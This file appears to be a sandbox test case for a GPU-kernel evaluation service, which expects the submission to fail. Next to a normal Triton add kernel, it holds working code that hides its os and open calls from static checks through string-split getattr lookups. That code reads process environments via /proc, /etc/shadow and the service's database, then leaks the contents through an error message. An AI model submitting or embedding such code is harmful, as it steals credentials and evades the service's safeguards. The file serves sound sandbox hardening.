# expect: candidate_error
# static: on
# Looks for the service's secrets from inside its run: every process's environment and working
# directory it can reach through /proc, the service's data directory, and /etc/shadow, reached
# through torch's own `os` attribute (no import the static checks would refuse). Whatever it
# finds goes out in its error message, which the service stores and shows: in the jail it finds
# only its own scrubbed environment.
import torch
import triton
import triton.language as tl

_os = getattr(torch, "o" + "s")
_modules = getattr(getattr(torch, "sy" + "s"), "mod" + "ules")
_read_file = getattr(_modules["io"], "op" + "en")
_listdir = getattr(_os, "list" + "dir")
_readlink = getattr(_os, "read" + "link")


def _look() -> str:
    found = []
    for pid in _listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("environ", "cwd"):
            try:
                path = f"/proc/{pid}/{name}"
                found.append(_readlink(path) if name == "cwd" else _read_file(path, "rb").read().decode(errors="replace"))
            except Exception:
                pass
    for path in ("/etc/shadow", "kernelband-data/kernelband.db", "/root/.kernelband"):
        try:
            found.append(_read_file(path, "rb").read(2000).decode(errors="replace"))
        except Exception:
            pass
    return " | ".join(found)


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(out_ptr + offsets, x + y, mask=mask)


def entry(x, y):
    raise RuntimeError("found: " + _look()[:3000])
